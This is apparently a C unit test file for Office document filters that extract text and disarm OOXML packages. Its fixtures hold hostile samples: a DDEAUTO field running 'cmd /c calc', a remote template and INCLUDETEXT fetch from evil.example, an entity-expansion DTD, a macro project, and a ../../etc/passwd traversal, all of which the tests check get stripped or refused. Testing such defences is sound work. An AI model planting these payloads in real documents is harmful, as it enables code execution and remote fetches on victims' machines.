/* test_filter_office.c - ooxml-text and ooxml-cdr on packages built here */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include <archive.h>
#include <archive_entry.h>
#include <glib.h>
#include <string.h>

#include "filter.h"
#include "ooxml.h"
#include "testutil.h"

#define CT_HEAD "<?xml version=\"1.0\" encoding=\"UTF-8\"?><Types xmlns=\"" OOXML_NS_CT "\">" \
	"<Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>" \
	"<Default Extension=\"xml\" ContentType=\"application/xml\"/>"
#define RELS_HEAD "<?xml version=\"1.0\" encoding=\"UTF-8\"?><Relationships xmlns=\"" OOXML_NS_PR "\">"
#define R_OFFDOC "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
#define W_NS "xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\" " \
	"xmlns:r=\"" OOXML_NS_R "\""
#define WORD_MAIN "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"

/* entry `name` of the ZIP at dfd/file, or NULL */
static char *zip_entry(int dfd, const char *file, const char *name)
{
	size_t len;
	char *data = tu_read_at(dfd, file, &len);
	struct archive *a = archive_read_new();
	struct archive_entry *e;
	char *found = NULL;

	assert_non_null(data);
	archive_read_support_format_zip(a);
	assert_int_equal(archive_read_open_memory(a, data, len), ARCHIVE_OK);
	while (archive_read_next_header(a, &e) == ARCHIVE_OK) {
		if (strcmp(archive_entry_pathname(e), name) == 0) {
			GString *s = g_string_new(NULL);
			char b[4096];
			la_ssize_t n;

			while ((n = archive_read_data(a, b, sizeof(b))) > 0)
				g_string_append_len(s, b, n);
			found = g_string_free(s, FALSE);
			break;
		}
	}
	archive_read_free(a);
	g_free(data);
	return found;
}

static char *run_ok(const char *filter, GByteArray *zip, const char *out_name, char **dir,
		    int *dfd, struct filter_result *res)
{
	struct filter_limits lim;

	tu_limits(&lim);
	assert_int_equal(tu_run(filter, zip->data, zip->len, &lim, res, dir, dfd), 0);
	if (res->status != FILTER_OK)
		print_message("reason: %s\n", res->reason);
	assert_int_equal(res->status, FILTER_OK);
	return tu_read_at(*dfd, out_name, NULL);
}

/* the text ooxml-text makes of the package of parts */
static char *ooxml_text_of(const char *const *parts)
{
	GByteArray *zip = tu_zip_of(parts);
	struct filter_result res;
	char *dir, *text;
	int dfd;

	text = run_ok("ooxml-text", zip, "out.txt", &dir, &dfd, &res);
	tu_rmrf(dir);
	close(dfd);
	g_byte_array_free(zip, TRUE);
	return text;
}

static void test_resolve(void **state)
{
	char *s;

	(void)state;
	s = ooxml_resolve("word/document.xml", "media/image1.png");
	assert_string_equal(s, "word/media/image1.png");
	g_free(s);
	s = ooxml_resolve("word/document.xml", "../customXml/item1.xml");
	assert_string_equal(s, "customXml/item1.xml");
	g_free(s);
	s = ooxml_resolve("word/document.xml", "/xl/x.xml");
	assert_string_equal(s, "xl/x.xml");
	g_free(s);
	s = ooxml_resolve("word/document.xml", "media/a%20b.png");
	assert_string_equal(s, "word/media/a b.png");
	g_free(s);
	assert_null(ooxml_resolve("word/document.xml", "../../etc/passwd"));
	s = ooxml_rels_name("word/document.xml");
	assert_string_equal(s, "word/_rels/document.xml.rels");
	g_free(s);
	s = ooxml_rels_name("");
	assert_string_equal(s, "_rels/.rels");
	g_free(s);
}

static const char *const xlsx_parts[] = {
	"[Content_Types].xml", CT_HEAD
	"<Override PartName=\"/xl/workbook.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml\"/>"
	"<Override PartName=\"/xl/worksheets/sheet1.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml\"/>"
	"<Override PartName=\"/xl/worksheets/sheet2.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml\"/>"
	"<Override PartName=\"/xl/sharedStrings.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml\"/></Types>",
	"_rels/.rels", RELS_HEAD "<Relationship Id=\"rId1\" Type=\"" R_OFFDOC "officeDocument\" Target=\"xl/workbook.xml\"/></Relationships>",
	"xl/_rels/workbook.xml.rels", RELS_HEAD
	"<Relationship Id=\"rA\" Type=\"" R_OFFDOC "worksheet\" Target=\"worksheets/sheet1.xml\"/>"
	"<Relationship Id=\"rB\" Type=\"" R_OFFDOC "worksheet\" Target=\"worksheets/sheet2.xml\"/>"
	"<Relationship Id=\"rS\" Type=\"" R_OFFDOC "sharedStrings\" Target=\"sharedStrings.xml\"/></Relationships>",
	/* sheet order is the workbook's, not the part names' */
	"xl/workbook.xml", "<workbook xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" "
	"xmlns:r=\"" OOXML_NS_R "\"><sheets><sheet name=\"二枚目\" sheetId=\"2\" r:id=\"rB\"/>"
	"<sheet name=\"一枚目\" sheetId=\"1\" r:id=\"rA\"/></sheets></workbook>",
	"xl/sharedStrings.xml", "<sst xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\">"
	"<si><t>東京都</t><rPh sb=\"0\" eb=\"3\"><t>トウキョウト</t></rPh></si>"
	"<si><r><t>千代田</t></r><r><t>区</t></r></si></sst>",
	"xl/worksheets/sheet1.xml", "<worksheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><sheetData>"
	"<row r=\"1\"><c r=\"A1\" t=\"s\"><v>0</v></c><c r=\"C1\" t=\"s\"><v>1</v></c></row>"
	"<row r=\"2\"><c r=\"B2\"><v>42</v></c><c r=\"C2\" t=\"b\"><v>1</v></c>"
	"<c r=\"D2\" t=\"inlineStr\"><is><t>直接\t入力</t></is></c><c r=\"E2\" t=\"s\"><v>99</v></c></row>"
	"</sheetData></worksheet>",
	"xl/worksheets/sheet2.xml", "<worksheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><sheetData>"
	"<row r=\"1\"><c r=\"A1\"><v>7</v></c></row></sheetData></worksheet>",
	NULL,
};

static void test_xlsx_text(void **state)
{
	char *text;

	(void)state;
	text = ooxml_text_of(xlsx_parts);
	/* furigana left out, rich runs joined, column gaps kept, a tab inside
	 * a cell flattened, an out-of-range shared string empty */
	assert_string_equal(text, "# 二枚目\n7\n# 一枚目\n東京都\t\t千代田区\n\t42\tTRUE\t直接 入力\n");
	g_free(text);
}

#define DOCX_CT CT_HEAD "<Override PartName=\"/word/document.xml\" ContentType=\"" WORD_MAIN "\"/></Types>"
#define DOCX_RELS RELS_HEAD "<Relationship Id=\"rId1\" Type=\"" R_OFFDOC "officeDocument\" Target=\"word/document.xml\"/></Relationships>"

static void test_docx_text(void **state)
{
	const char *const parts[] = {
		"[Content_Types].xml", DOCX_CT, "_rels/.rels", DOCX_RELS,
		"word/document.xml", "<w:document " W_NS " xmlns:mc=\"http://schemas.openxmlformats.org/markup-compatibility/2006\"><w:body>"
		"<w:p><w:r><w:t>前文</w:t><w:tab/><w:t>続き</w:t></w:r></w:p>"
		"<w:tbl><w:tr><w:tc><w:p><w:r><w:t>甲</w:t></w:r></w:p></w:tc>"
		"<w:tc><w:p><w:r><w:t>乙</w:t></w:r></w:p></w:tc></w:tr></w:tbl>"
		"<w:p><w:r><w:instrText>HYPERLINK \"x\"</w:instrText></w:r><w:r><w:delText>削除</w:delText></w:r>"
		"<mc:AlternateContent><mc:Choice><w:r><w:t>選択</w:t></w:r></mc:Choice>"
		"<mc:Fallback><w:r><w:t>代替</w:t></w:r></mc:Fallback></mc:AlternateContent></w:p>"
		"</w:body></w:document>",
		NULL,
	};
	char *text;

	(void)state;
	text = ooxml_text_of(parts);
	assert_string_equal(text, "前文\t続き\n甲\t乙\n選択\n");
	g_free(text);
}

/* no DTD, no entity: refused before parsing, by both filters */
static void test_dtd_refused(void **state)
{
	const char *const parts[] = {
		"[Content_Types].xml", DOCX_CT, "_rels/.rels", DOCX_RELS,
		"word/document.xml", "<?xml version=\"1.0\"?><!DOCTYPE d [<!ENTITY a \"aaaaaaaaaa\">"
		"<!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\">]><w:document " W_NS "><w:body><w:p>"
		"<w:r><w:t>&b;</w:t></w:r></w:p></w:body></w:document>",
		NULL,
	};
	GByteArray *zip = tu_zip_of(parts);
	const char *filters[] = { "ooxml-text", "ooxml-cdr" };

	(void)state;
	for (size_t i = 0; i < 2; i++) {
		struct filter_limits lim;
		struct filter_result res;
		char *dir;
		int dfd;

		tu_limits(&lim);
		assert_int_equal(tu_run(filters[i], zip->data, zip->len, &lim, &res, &dir, &dfd), 0);
		assert_int_equal(res.status, FILTER_BLOCKED);
		assert_non_null(strstr(res.reason, "office-xml-dtd"));
		assert_int_equal(tu_count(dfd), 0);
		tu_rmrf(dir);
		close(dfd);
	}
	g_byte_array_free(zip, TRUE);
}

static void test_not_office(void **state)
{
	const char *const plain[] = { "a.txt", "hello", NULL };
	const char *const dup[] = { "[Content_Types].xml", DOCX_CT, "_rels/.rels", DOCX_RELS,
				    "word/document.xml", "<w:document " W_NS "/>",
				    "WORD/Document.xml", "<w:document " W_NS "/>", NULL };
	GByteArray *z1 = tu_zip_of(plain), *z2 = tu_zip_of(dup);
	struct filter_limits lim;
	struct filter_result res;
	char *dir;
	int dfd;

	(void)state;
	tu_limits(&lim);
	assert_int_equal(tu_run("ooxml-cdr", z1->data, z1->len, &lim, &res, &dir, &dfd), 0);
	assert_int_equal(res.status, FILTER_FAILED);
	assert_non_null(strstr(res.reason, "not-office"));
	tu_rmrf(dir);
	close(dfd);
	assert_int_equal(tu_run("ooxml-text", z2->data, z2->len, &lim, &res, &dir, &dfd), 0);
	assert_int_equal(res.status, FILTER_BLOCKED);
	assert_non_null(strstr(res.reason, "office-duplicate-part"));
	tu_rmrf(dir);
	close(dfd);
	/* a part over the limit stops the read */
	lim.max_member_bytes = 16;
	assert_int_equal(tu_run("ooxml-text", z2->data, z2->len, &lim, &res, &dir, &dfd), 0);
	assert_int_equal(res.status, FILTER_BLOCKED);
	assert_non_null(strstr(res.reason, "office-part-too-large"));
	tu_rmrf(dir);
	close(dfd);
	g_byte_array_free(z1, TRUE);
	g_byte_array_free(z2, TRUE);
}

static void test_cdr(void **state)
{
	const char *const parts[] = {
		"[Content_Types].xml", CT_HEAD
		"<Default Extension=\"bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/>"
		"<Override PartName=\"/word/document.xml\" ContentType=\"application/vnd.ms-word.document.macroEnabled.main+xml\"/>"
		"<Override PartName=\"/word/settings.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml\"/>"
		"<Override PartName=\"/word/media/image1.png\" ContentType=\"image/png\"/></Types>",
		"_rels/.rels", DOCX_RELS,
		"word/_rels/document.xml.rels", RELS_HEAD
		"<Relationship Id=\"rV\" Type=\"http://schemas.microsoft.com/office/2006/relationships/vbaProject\" Target=\"vbaProject.bin\"/>"
		"<Relationship Id=\"rH\" Type=\"" R_OFFDOC "hyperlink\" Target=\"http://evil.example/\" TargetMode=\"External\"/>"
		"<Relationship Id=\"rI\" Type=\"" R_OFFDOC "image\" Target=\"media/image1.png\"/>"
		"<Relationship Id=\"rS\" Type=\"" R_OFFDOC "settings\" Target=\"settings.xml\"/></Relationships>",
		"word/_rels/settings.xml.rels", RELS_HEAD
		"<Relationship Id=\"rT\" Type=\"" R_OFFDOC "attachedTemplate\" Target=\"http://evil.example/t.dotm\" TargetMode=\"External\"/></Relationships>",
		"word/settings.xml", "<w:settings " W_NS "><w:attachedTemplate r:id=\"rT\"/><w:zoom w:percent=\"100\"/></w:settings>",
		"word/vbaProject.bin", "Attribute VB_Name = \"x\"",
		/* not a PNG: dropped, and its reference with it */
		"word/media/image1.png", "Attribute VB_Name = \"y\"",
		"word/document.xml", "<w:document " W_NS "><w:body>"
		"<w:p><w:hyperlink r:id=\"rH\"><w:r><w:t>リンク</w:t></w:r></w:hyperlink></w:p>"
		"<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>DD</w:instrText></w:r>"
		"<w:r><w:instrText>EAUTO cmd /c calc</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"separate\"/></w:r>"
		"<w:r><w:t>結果</w:t></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>"
		"<w:p><w:fldSimple w:instr=\" INCLUDETEXT http://evil.example/x \"><w:r><w:t>本文</w:t></w:r></w:fldSimple></w:p>"
		"</w:body></w:document>",
		NULL,
	};
	GByteArray *zip = tu_zip_of(parts);
	struct filter_result res;
	char *dir, *ct, *doc, *rels, *settings, *srels;
	int dfd;

	(void)state;
	g_free(run_ok("ooxml-cdr", zip, "out.docx", &dir, &dfd, &res));
	assert_non_null(strstr(res.reason, "macro-enabled"));
	ct = zip_entry(dfd, "out.docx", "[Content_Types].xml");
	doc = zip_entry(dfd, "out.docx", "word/document.xml");
	rels = zip_entry(dfd, "out.docx", "word/_rels/document.xml.rels");
	settings = zip_entry(dfd, "out.docx", "word/settings.xml");
	srels = zip_entry(dfd, "out.docx", "word/_rels/settings.xml.rels");
	assert_non_null(ct);
	assert_non_null(doc);
	assert_non_null(rels);
	assert_non_null(settings);
	assert_null(zip_entry(dfd, "out.docx", "word/vbaProject.bin"));
	assert_null(zip_entry(dfd, "out.docx", "word/media/image1.png"));
	assert_null(strstr(ct, "macroEnabled"));
	assert_null(strstr(ct, "vbaProject"));
	assert_non_null(strstr(ct, WORD_MAIN));
	assert_non_null(strstr(ct, "/word/settings.xml"));
	/* the relationships that survive: settings only */
	assert_null(strstr(rels, "External"));
	assert_null(strstr(rels, "vbaProject"));
	assert_null(strstr(rels, "image1"));
	assert_non_null(strstr(rels, "settings.xml"));
	assert_null(strstr(settings, "attachedTemplate"));
	assert_non_null(strstr(settings, "zoom"));
	assert_true(srels == NULL || strstr(srels, "evil") == NULL);
	/* text kept; the link, the split DDEAUTO and the INCLUDETEXT gone */
	assert_non_null(strstr(doc, "リンク"));
	assert_non_null(strstr(doc, "結果"));
	assert_non_null(strstr(doc, "本文"));
	assert_null(strstr(doc, "rH"));
	assert_null(strstr(doc, "EAUTO"));
	assert_null(strstr(doc, "INCLUDETEXT"));
	g_free(ct);
	g_free(doc);
	g_free(rels);
	g_free(settings);
	g_free(srels);
	tu_rmrf(dir);
	close(dfd);
	g_byte_array_free(zip, TRUE);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_resolve),
		cmocka_unit_test(test_xlsx_text),
		cmocka_unit_test(test_docx_text),
		cmocka_unit_test(test_dtd_refused),
		cmocka_unit_test(test_not_office),
		cmocka_unit_test(test_cdr),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
